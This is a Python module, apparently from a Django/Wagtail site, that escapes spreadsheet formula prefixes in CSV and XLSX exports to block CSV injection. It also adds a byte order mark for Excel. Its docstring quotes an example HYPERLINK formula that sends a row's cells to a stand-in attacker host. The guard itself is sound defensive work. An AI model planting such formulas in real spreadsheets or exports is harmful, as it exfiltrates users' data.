"""Cells that a spreadsheet program cannot run: the guard of every CSV and XLSX.

Answers, suggestions, comments, titles and notes come from the public or from
another unit's staff. A text cell starting with `=`, `+`, `-` or `@` (or a tab
or carriage return, which some programs skip before reading one of those) is
read by Excel, LibreOffice and Google Sheets as a formula when the file is
opened: `=HYPERLINK("http://evil.example/?x="&B2,"Lihat")` sends the row's
other cells away at one click, and DDE formulas can start programs. Following
OWASP's advice on CSV injection, such a text gets a leading single quote, so
it is shown as the text it is. openpyxl stores any string starting with `=` as
a formula; once quoted, it is stored as a plain string cell.

Only strings change. Numbers (negative ones too) stay numbers, and a string
that is a plain decimal number (`-12.5`, from a value already turned into
text) is left alone: it cannot run anything.

Every export of the site passes its rows through `safe_row` (lists) or
`safe_mapping` (dicts), or each value through `safe_cell`.

The admin's CSV files also start with a UTF-8 byte order mark
(`SafeSpreadsheetExportMixin`): Excel, which most staff open an export in, reads
a CSV without one in the Windows code page and garbles every character outside
ASCII (curly quotes and dashes pasted from a word processor, accented names).
The open data's CSV (`cms.core.open_data`) is for programs and has none.

A CSV is streamed: its lines are written after the view has returned, when
Wagtail's admin no longer holds the user's language and time zone, so they are
written in those the view answered in (`in_language`); the XLSX is built in the
view.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping
from datetime import tzinfo
from typing import Any

from django.http import HttpResponse
from django.utils import timezone, translation

UTF8_BOM = "\ufeff".encode()
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value`, with a leading `'` if it is a text a spreadsheet would run."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """A row of cells (a list or tuple), each made safe."""
    return [safe_cell(value) for value in row]


def safe_mapping(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row of named cells (for `csv.DictWriter`), each made safe."""
    return {name: safe_cell(value) for name, value in row.items()}


class SafeSpreadsheetExportMixin:
    """For a view built on Wagtail's `SpreadsheetExportMixin` (form
    submissions, listings with `list_export`): every value and heading it
    writes to CSV or XLSX passes through `safe_cell`, after Wagtail's own
    preprocessing (which turns lists into text), so nothing is missed; its CSV
    starts with a byte order mark and says its charset."""

    def preprocess_field_value(self, field: str, value: Any, export_format: str):
        return safe_cell(super().preprocess_field_value(field, value, export_format))

    def get_heading(self, queryset, field: str) -> str:
        return safe_cell(super().get_heading(queryset, field))

    def stream_csv(self, queryset) -> Iterator[bytes]:
        """Wagtail's CSV lines after a byte order mark (see the module)."""
        yield UTF8_BOM
        yield from super().stream_csv(queryset)

    def write_csv_response(self, queryset) -> HttpResponse:
        """Wagtail's response, saying its charset, its lines in the admin's
        language (see the module)."""
        response = super().write_csv_response(queryset)
        response["Content-Type"] = "text/csv; charset=utf-8"
        response.streaming_content = in_language(
            response.streaming_content,
            translation.get_language(),
            timezone.get_current_timezone(),
        )
        return response


def in_language(
    chunks: Iterable[bytes], language: str, zone: tzinfo
) -> Iterator[bytes]:
    """`chunks`, each produced with `language` and the time zone `zone`
    active (the admin's, which Wagtail sets for the view alone)."""
    with translation.override(language), timezone.override(zone):
        yield from chunks
